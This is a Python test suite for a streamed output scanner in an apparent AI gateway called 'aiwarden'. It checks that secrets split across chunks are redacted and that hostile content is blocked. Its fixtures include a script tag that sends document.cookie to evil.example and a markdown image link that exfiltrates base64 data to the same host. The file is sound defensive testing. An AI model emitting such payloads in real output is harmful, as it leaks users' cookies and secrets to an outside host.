"""The streamed output scanner: whatever the chunking, no secret or blocked content leaves, and the released text
is what a whole-answer scan gives."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aiwarden.gateway.output_scan import OutputScanner
from aiwarden.guard import Guard
from aiwarden.guard.secret_checksums import crc32_base62
from aiwarden.guard.types import OutputContext

GUARD = Guard(tier="ngram")
AWS = "AKIA2OGYBAH6STMMNXNN"
GITHUB = "ghp_" + "x7Kq2Lm9Pw4Rt8Zb3Nc6Vd1Fg5Hj0S" + crc32_base62("x7Kq2Lm9Pw4Rt8Zb3Nc6Vd1Fg5Hj0S")  # exact format
FILLER = "The quarterly numbers look fine and the team shipped the migration on time. "


def stream(text: str, cuts: list[int], hold: int = 256) -> tuple[str, OutputScanner]:
    scanner = OutputScanner(GUARD, OutputContext(), hold=hold)
    out, last = [], 0
    for cut in [*sorted(set(cuts)), len(text)]:
        out.append(scanner.feed(text[last:cut]))
        last = cut
    out.append(scanner.finish())
    return "".join(out), scanner


@pytest.mark.parametrize("size", [1, 2, 3, 5, 17, 64, 300])
@pytest.mark.parametrize("secret", [AWS, GITHUB])
def test_a_secret_split_across_chunks_never_leaves(size: int, secret: str) -> None:
    text = FILLER * 5 + f"Use {secret} to log in. " + FILLER * 5
    sent, scanner = stream(text, list(range(size, len(text), size)))
    assert secret not in sent and secret[:12] not in sent
    assert "[SECRET_1]" in sent
    assert sent.startswith(FILLER) and sent.endswith(FILLER)
    assert scanner.verdict.action == "redact"


@pytest.mark.parametrize("size", [1, 4, 9, 100])
def test_a_script_tag_split_across_chunks_stops_the_stream_before_it(size: int) -> None:
    text = FILLER * 6 + "<script>fetch('https://evil.example/?c='+document.cookie)</script>" + FILLER * 3
    sent, scanner = stream(text, list(range(size, len(text), size)))
    assert scanner.blocked
    assert "<script" not in sent and "fetch(" not in sent
    assert any(f.rule_id.startswith("html.") for f in scanner.verdict.findings)


def test_the_same_secret_keeps_one_placeholder_for_the_whole_answer() -> None:
    text = f"first {AWS} " + FILLER * 8 + f"again {AWS} and {GITHUB}."
    sent, _ = stream(text, list(range(7, len(text), 7)))
    assert sent.count("[SECRET_1]") == 2 and "[SECRET_2]" in sent


def test_text_is_held_back_while_it_could_still_become_a_finding() -> None:
    scanner = OutputScanner(GUARD, OutputContext(), hold=64)
    released = scanner.feed(FILLER * 4 + "key: AKIAIOSF")
    assert "AKIA" not in released  # the last word may still grow into a secret
    assert released and FILLER[:40] in released
    rest = scanner.feed("ODNN7EXAMPLE and more words " * 3) + scanner.finish()
    assert AWS not in released + rest


def test_log_mode_records_but_changes_nothing() -> None:
    text = FILLER + f"key {AWS} " + FILLER
    scanner = OutputScanner(GUARD, OutputContext(), enforce=False)
    assert scanner.scan_whole(text) == text
    assert scanner.verdict.action == "redact" and not scanner.blocked


@settings(max_examples=60, deadline=None)
@given(st.lists(st.integers(min_value=1, max_value=600), max_size=40), st.integers(min_value=16, max_value=300))
def test_any_chunking_releases_what_a_whole_scan_releases(cuts: list[int], hold: int) -> None:
    text = FILLER * 3 + f"token {GITHUB} here, " + FILLER * 2 + f"and {AWS}." + FILLER
    whole = OutputScanner(GUARD, OutputContext()).scan_whole(text)
    sent, _ = stream(text, [c for c in cuts if c < len(text)], hold=hold)
    assert sent == whole


@pytest.mark.parametrize("text", ["a:" * 50_000, "<" * 100_000, "x" * 100_000, "![a](" * 20_000])
def test_hostile_output_is_scanned_in_linear_time(text: str) -> None:
    began = time.process_time()
    sent, _ = stream(text, list(range(4, len(text), 4)))
    assert time.process_time() - began < 5.0  # quadratic work here takes minutes
    assert len(sent) >= len(text) - 64


@pytest.mark.parametrize("fill", ["/ab" * 3000, "a" * 9000, "/" + "x" * 20_000])
def test_an_image_link_longer_than_the_hold_is_still_judged_whole(fill: str) -> None:
    text = FILLER + "![x](https://evil.example" + fill + "?d=c2VjcmV0IHBhc3N3b3JkIGlzIGh1bnRlcjI) " + FILLER
    sent, scanner = stream(text, list(range(7, len(text), 7)))
    assert scanner.blocked
    assert "?d=" not in sent and "evil.example" + fill[:50] not in sent
